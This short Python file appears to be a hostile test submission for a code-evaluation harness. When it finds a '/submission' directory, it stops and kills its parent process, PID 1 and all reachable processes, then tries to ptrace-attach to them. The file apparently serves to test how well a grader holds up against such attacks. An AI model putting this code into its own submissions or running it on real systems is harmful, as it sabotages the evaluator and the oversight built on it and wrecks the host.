"""Kills, stops and debugs the process that started it, and process 1."""

# attacks: optimizer.plain

import contextlib
import ctypes
import os
import signal

from wrong import *  # noqa: F403

if os.path.exists("/submission"):
    for pid in (os.getppid(), 1, -1):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
        ctypes.CDLL(None).ptrace(16, pid, 0, 0)
